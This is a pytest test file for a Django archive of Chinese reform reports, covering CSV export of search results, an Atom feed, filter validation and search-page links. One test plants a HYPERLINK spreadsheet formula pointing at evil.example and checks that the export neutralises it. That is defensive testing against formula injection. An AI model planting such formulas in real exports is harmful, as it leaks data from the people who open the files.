"""Search results that leave the site: the CSV of every matching report and the Atom feed."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest

from archive.models import Document
from archive.research.leaving import plain_snippet
from archive.services.documents import document_import

ATOM = "{http://www.w3.org/2005/Atom}"


def export_rows(client, **params):
    response = client.get("/api/search/export.csv", params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="reform-archive-search-')
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_export_holds_every_matching_report_with_the_query_and_date_stamped(client, indexed_on):
    rows = export_rows(client, q="改革", page_size=2)
    assert rows[0][:2] == ["# query", "改革"] and rows[1][0] == "# generated"
    assert rows[2][:3] == ["report_id", "title", "city"]
    api = client.get("/api/search/", {"q": "改革", "page_size": 100}).json()
    assert [int(row[0]) for row in rows[3:]] == [result["id"] for result in api["results"]]  # all, in order
    assert all("【改革】" in row[-1] for row in rows[3:])


def test_export_keeps_the_filters_and_stamps_them(client, indexed_on):
    rows = export_rows(client, q="河长制", city="xuchang")
    assert "city=xuchang" in rows[0]
    assert [row[2] for row in rows[3:]] == ["许昌市"]  # found through the alias 河湖长制


def test_export_cells_cannot_run_as_formulas(client, indexed):
    Document.objects.filter(city__slug="xuchang").update(title='=HYPERLINK("http://evil.example/?leak","x")')
    rows = export_rows(client, q="河长制", city="xuchang")
    assert rows[3][1] == '\'=HYPERLINK("http://evil.example/?leak","x")'
    assert plain_snippet("一是<mark>河长制</mark>&amp;湖长") == "一是【河长制】&湖长"


def test_bad_filters_are_a_400(client, indexed):
    assert client.get("/api/search/export.csv", {"q": "改革", "city": "atlantis"}).status_code == 400
    assert client.get("/search/feed/", {"q": "改革", "year": "x"}).status_code == 400


def test_feed_lists_matching_reports_newest_first_and_a_new_import_appears(
    client, indexed, django_capture_on_commit_callbacks
):
    feed = ET.fromstring(client.get("/search/feed/", {"q": "河长制"}).content)
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == 3 and "河长制" in feed.find(f"{ATOM}title").text
    body = "衡阳市全面推行河长制。\n" + "衡阳市深化改革，推进生态环境保护。" * 5
    with django_capture_on_commit_callbacks(execute=True):
        document = document_import(data=f"衡阳市2023年改革工作总结\n{body}".encode(), filename="hengyang.txt").document
    feed = ET.fromstring(client.get("/search/feed/", {"q": "河长制"}).content)
    first = feed.findall(f"{ATOM}entry")[0]
    assert first.find(f"{ATOM}link").get("href").endswith(document.get_absolute_url())
    assert "<mark>河长制</mark>" in first.find(f"{ATOM}summary").text


@pytest.mark.parametrize("path", ["/search/", "/en/search/"])
def test_search_page_links_the_export_and_the_feed(client, indexed, path):
    page = client.get(path, {"q": "河长制", "city": "xuchang"}).content.decode()
    assert "/api/search/export.csv?q=%E6%B2%B3%E9%95%BF%E5%88%B6&amp;city=xuchang" in page
    assert "/search/feed/?q=%E6%B2%B3%E9%95%BF%E5%88%B6&amp;city=xuchang" in page
